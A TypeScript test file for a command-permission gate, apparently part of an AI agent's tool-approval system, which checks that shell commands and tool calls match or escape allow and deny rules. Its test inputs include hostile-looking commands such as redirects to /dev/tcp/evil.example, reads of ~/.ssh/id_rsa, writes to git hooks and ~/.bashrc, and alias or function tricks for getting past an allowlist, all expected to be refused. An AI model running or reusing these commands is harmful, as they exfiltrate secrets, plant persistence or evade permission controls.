import { expect, test } from 'vitest';
import { failClosed } from '../../../../src/gate/model/annotations.ts';
import type { Call } from '../../../../src/gate/model/call.ts';
import type { Entry } from '../../../../src/gate/model/entry.ts';
import { approval, restriction } from '../../../../src/gate/rules/match.ts';
import { subjectOf, unreadSubject } from '../../../../src/gate/rules/shellSubject.ts';
import type { GateWorld } from '../../../../src/gate/rules/world.ts';
import { command, exact, glob, mcpTool, regexp, rules, tool, worldOf } from './rules.ts';

const world = worldOf();

function subject({ action }: Call, { read }: GateWorld) {
  if (action.kind !== 'shell') return undefined;
  return read ? subjectOf(read(action.command)) : unreadSubject(action.command);
}
const allows = (entries: Entry[], call: Call, { writes = true, within = world } = {}) =>
  approval(rules(...entries), call, subject(call, within), within, writes) !== undefined;
const restricts = (entry: Entry, call: Call, within = world) =>
  restriction(rules(entry), call, subject(call, within), within) !== undefined;

test.each([
  // entry                          command                        allowed
  [exact('make test'), 'make   test', true],
  [exact('make test'), 'make test V=1', false],
  [exact('make test'), 'Make test', false],
  [exact('make "test"'), "make 'test'", true],
  [exact('rm a b'), "rm 'a b'", false],
  [exact("rm 'a b'"), 'rm a\\ b', true],
  [exact('ls *'), "ls '*'", false],
  [exact('git commit -m "fix it"'), "git commit -m 'fix it'", true],
  [exact('a && b'), 'a   &&   b', true],
  [exact('a && b'), 'a || b', false],
  [exact('a && b'), 'a; b', false],
  [exact('a; b'), 'a\nb', true],
  [exact('a > x'), 'a >x', true],
  [exact('a > x'), 'a > y', false],
  [exact('a'), 'a > y', true],
  [exact('a'), '! a', true],
  [exact('a'), '(a)', true],
  [exact('echo $HOME'), 'echo $HOME', true],
  [exact('echo $X'), 'echo $X', true],
  [exact('echo $X'), 'echo "$X"', false],
  [glob('make *'), 'make clean', true],
  [glob('make *'), 'make', false],
  [glob('make *'), 'make clean; curl x', false],
  [glob('make *'), 'make $(curl x)', false],
  [glob('make *'), 'make $X', false],
  [glob('make *'), 'A=1 make clean', false],
  [glob('A=* make *'), 'A=1 make clean', true],
  [glob('*'), 'PATH=./bin ls', false],
  [glob('make *'), 'make "', false],
  [glob('make *'), 'remake x', false],
  [glob('git show *'), 'git -C sub --no-pager show x', true],
  [glob('git show *'), 'git -c core.pager=x show x', false],
  [regexp('^make (a|b)$'), 'make a', true],
  [regexp('^make (a|b)$'), 'make c', false],
  [regexp('^make'), 'MAKE a', false],
  [regexp('a('), 'a', false],
] as const)('approved by %j: %s → %s', (entry, text, allowed) => {
  expect(allows([entry], command(text))).toBe(allowed);
});

test.each([
  // a line of several parts needs each of them covered
  [[exact('git status')], 'git status && npm test', false],
  [[exact('git status'), exact('npm test')], 'git status && npm test', true],
  [[exact('git status'), exact('npm test')], 'npm test | git status; (npm test)', true],
  [[exact('npm test')], 'cd src && npm test', true],
  [[exact('npm test')], 'cd .. && npm test', false],
  [[exact('npm test')], 'for i in a b; do npm test; done', false],
  [[glob('echo *'), glob('npm *')], 'echo a & npm test', true],
  [[glob('echo *')], 'echo a & whoami', false],
  // what a part starts is covered by an entry that names it
  [[glob('npm exec -- tsc *')], 'npm exec -- tsc --noEmit', true],
  [[exact('sudo make')], 'sudo make; ls', false],
  [[exact('sudo make'), exact('ls')], 'sudo make; ls', true],
  [[glob('sudo *')], 'sudo make', false],
  [[glob('sudo *'), exact('make')], 'sudo make', true],
  [[glob('sh *')], "sh -c 'make'", false],
  [[exact('make')], "sh -c 'make'", true],
  [[exact('make')], 'nice -n 5 make', true],
  [[exact('make')], 'sudo make', false],
  [[glob('echo *')], 'echo a > out.txt', true],
  [[exact('make')], 'bash --rcfile evil -ic make', false],
  [[exact('make')], 'bash --init-file evil -c make', false],
  [[exact('make')], "bash -O extglob -c 'make'", false],
  [[exact('make')], "bash -ec 'make'", true],
  [[exact('make')], 'bash -c make < evil', false],
  [[exact('make')], "env -S 'rm x' make", false],
  // a relative program is another one in another folder
  [[exact('./build.sh')], './build.sh', true],
  [[exact('./build.sh')], 'cd sub && ./build.sh', false],
  [[exact('./build.sh'), exact('make')], 'make && ./build.sh', true],
  [[exact('git status')], 'git() { rm x; }; git status', false],
  [[exact('git status')], 'alias git=rm; git status', false],
  [[exact('rm x')], 'A=rm; $A x', false],
  [[exact('cat x')], 'cat x | tee ../y', false],
] as const)('approved by %j: %s → %s', (entries, text, allowed) => {
  expect(allows([...entries], command(text))).toBe(allowed);
});

test.each([
  // PowerShell does not mind case in names and parameters, and minds it in values.
  [exact('Get-ChildItem -Path .'), 'get-childitem -path .', true],
  [exact('Get-Content A.txt'), 'Get-Content a.txt', false],
  [glob('Get-Content *'), 'get-content a.txt', true],
  [glob('git branch -d *'), 'git branch -D x', false],
  [glob('Get-Content *'), '(Get-Content a.txt).Length', true],
  [glob('Get-Content *'), '(Get-Content a.txt).Delete()', false],
  [glob('Get-Content *'), 'Get-Content a.txt | Out-String', true],
  [glob('Get-Content *'), 'Get-Content a.txt | Set-Content b.txt', false],
  [glob('Get-Content *'), 'Get-Content (Remove-Item x)', false],
  [glob('Get-ChildItem *'), 'Get-ChildItem . | ForEach-Object { Remove-Item $_ }', false],
] as const)('in PowerShell approved by %j: %s → %s', (entry, text, allowed) => {
  expect(allows([entry], command(text), { within: worldOf('powershell') })).toBe(allowed);
});

test('in cmd, which runs what lies in the current folder, nothing is approved by its name', () => {
  const within = { within: worldOf('cmd') };
  expect(allows([exact('git status'), glob('*')], command('git status'), within)).toBe(false);
  expect(allows([glob('*')], command('cmd /c git status'))).toBe(false);
});

test.each([
  // command                     while writes are granted, and while they are not
  ['npm test > out.txt', true, false],
  ['npm test >> logs/out.txt', true, false],
  ['npm test 2>&1', true, true],
  ['npm test > /dev/null', true, true],
  ['npm test > ../out.txt', false, false],
  ['npm test > ~/.bashrc', false, false],
  ['npm test > .git/hooks/pre-commit', false, false],
  ['npm test > .vscode/settings.json', false, false],
  ['npm test > "$F"', false, false],
  ['npm test >& ../out.txt', false, false],
  ['npm test &> out.txt', true, false],
  ['npm test <> out.txt', true, false],
  ['npm test > /dev/tcp/evil.example/80', false, false],
  ['npm test < /dev/tcp/evil.example/80', false, false],
  ['npm test <<< "$F"', false, false],
  ['npm test > $(mktemp)', false, false],
  ['npm test > .env', false, false],
  ['npm test > a > ../b', false, false],
  ["npm test <<'E'\nhi\nE", true, true],
  ['npm test < data.txt', true, true],
  ['npm test < ~/.ssh/id_rsa', false, false],
])('the output of an approved command: %s', (text, granted, notGranted) => {
  expect(allows([exact('npm test')], command(text))).toBe(granted);
  expect(allows([exact('npm test')], command(text), { writes: false })).toBe(notGranted);
});

test.each([
  // entry                  command                                   restricted
  [glob('git push*'), 'cd app && GIT PUSH origin', true],
  [glob('git push*'), 'git -C p push', true],
  [glob('git push*'), 'sudo git push', true],
  [glob('git push*'), "sh -c 'git push'", true],
  [glob('git push*'), 'echo $(git push)', true],
  [glob('git push*'), 'A=1 git push', true],
  [glob('git push*'), '/usr/bin/git push', true],
  [glob('git push*'), 'g"it" push', true],
  [glob('git push*'), 'echo "git push"', false],
  [glob('git push*'), 'git log', false],
  [glob('git push*'), 'git push "', true],
  [glob('git push*'), 'ls && git push "', true],
  [exact('npm publish'), 'npm  publish', true],
  [exact('npm publish'), 'npm publish --tag x', false],
  [exact('npm publish'), 'ls; NPM publish', true],
  [regexp('^rm'), 'RM x', false],
  [regexp('^rm'), 'ls; rm x', true],
  [regexp('a('), 'anything', true],
  [glob('* *'), 'anything', true],
] as const)('forbidden by %j: %s → %s', (entry, text, restricted) => {
  expect(restricts(entry, command(text))).toBe(restricted);
});

test.each([
  // What stands for `x` in a glob for a reader stays reading.
  ['cat *', 'cat a.txt', true],
  ['sed *', "sed -n '1,5p' a.txt", true],
  ['sed *', "sed -i 's/a/b/' a.txt", false],
  ['sed -i *', "sed -i 's/a/b/' a.txt", true],
  ['find *', 'find . -name x', true],
  ['find *', 'find . -delete', false],
])('a glob %s covers %s → %s', (pattern, text, allowed) => {
  expect(allows([glob(pattern)], command(text))).toBe(allowed);
});

test('without a reader an approval is the identical text and nothing else', () => {
  const within = { within: {} };
  expect(allows([exact('a | b')], command(' a | b '), within)).toBe(true);
  expect(allows([exact('a')], command('a; b'), within)).toBe(false);
  expect(allows([glob('a*')], command('a'), within)).toBe(false);
});

test('without a reader a refusal is looked for wherever a shell might cut', () => {
  expect(restricts(glob('git push*'), command('cd a && GIT  PUSH'), {})).toBe(true);
  expect(restricts(glob('git push*'), command('echo $(git push)'), {})).toBe(true);
});

test('without an engine a regular expression forbids everything and allows nothing', () => {
  const { read } = world;
  if (!read) throw new Error('a reader is needed');
  expect(restricts(regexp('^x$'), command('ls'), { read })).toBe(true);
  expect(allows([regexp('^ls$')], command('ls'), { within: { read } })).toBe(false);
});

const onServer = (over: object): Entry => ({
  type: 'mcpTool',
  server: 'jira',
  matcher: 'exact',
  pattern: 'get',
  ...over,
});
const forTool = (over: object): Entry => ({
  type: 'tool',
  matcher: 'exact',
  pattern: 'gth_web_fetch',
  ...over,
});
const fetches = (...hosts: string[]) => tool('gth_web_fetch', { hosts });

test.each([
  // entry                                      call                      allowed  restricted
  [forTool({}), fetches('a.example'), true, true],
  [forTool({}), tool('GTH_WEB_FETCH'), false, false],
  [forTool({ matcher: 'glob', pattern: 'gth_*' }), fetches(), true, true],
  [forTool({ matcher: 'regexp', pattern: '^gth' }), fetches(), true, true],
  [forTool({ matcher: 'regexp', pattern: '(' }), fetches(), false, true],
  [forTool({ host: 'a.example' }), fetches('a.example'), true, true],
  [forTool({ host: 'A.Example' }), fetches('a.example'), true, true],
  [forTool({ host: 'a.example' }), fetches('b.example'), false, false],
  [forTool({ host: 'a.example' }), fetches('b.example', 'a.example'), false, true],
  [forTool({ host: 'a.example' }), fetches(), false, true],
  [forTool({ host: 'a.example', pattern: 'write_file' }), tool('write_file'), false, false],
  [forTool({}), command('gth_web_fetch'), false, false],
  [exact('gth_web_fetch'), fetches(), false, false],
  [onServer({}), mcpTool('jira', 'get'), true, true],
  [onServer({}), mcpTool('JIRA', 'get'), false, false],
  [onServer({ server: '*' }), mcpTool('any', 'get'), true, true],
  [
    onServer({ server: '*', matcher: 'glob', pattern: '*' }),
    mcpTool('', 'mcp__a__b__c'),
    true,
    true,
  ],
  [
    onServer({ matcher: 'hint', pattern: { destructiveHint: true } }),
    mcpTool('jira', 'x'),
    true,
    true,
  ],
  [
    onServer({ matcher: 'hint', pattern: { readOnlyHint: true } }),
    mcpTool('jira', 'x'),
    false,
    false,
  ],
  [forTool({ matcher: 'hint', pattern: { readOnlyHint: true } }), tool('read_file'), true, true],
] as const)('%j against %j', (entry, call, allowed, restricted) => {
  expect(allows([entry], call)).toBe(allowed);
  expect(restricts(entry, call)).toBe(restricted);
});

test('an approval falls when the tool became more dangerous, and not when it became safer', () => {
  const harmless = { ...failClosed, readOnlyHint: true, destructiveHint: false };
  const [rule] = rules(onServer({}));
  if (!rule) throw new Error('a rule is needed');
  const approved = (before: typeof failClosed, now: typeof failClosed) =>
    approval(
      [{ ...rule, annotations: before }],
      mcpTool('jira', 'get', { annotations: now }),
      undefined,
      world,
      true,
    ) !== undefined;
  expect(approved(harmless, failClosed)).toBe(false);
  expect(approved(harmless, harmless)).toBe(true);
  expect(approved(failClosed, harmless)).toBe(true);
});

test('the entry that is named is the first of its list', () => {
  const list = rules(glob('npm *'), exact('npm test'), glob('*'));
  const call = command('npm test');
  expect(restriction(list, call, subject(call, world), world)).toBe(list[0]);
  expect(approval(list, call, subject(call, world), world, true)).toEqual([list[1]]);
});
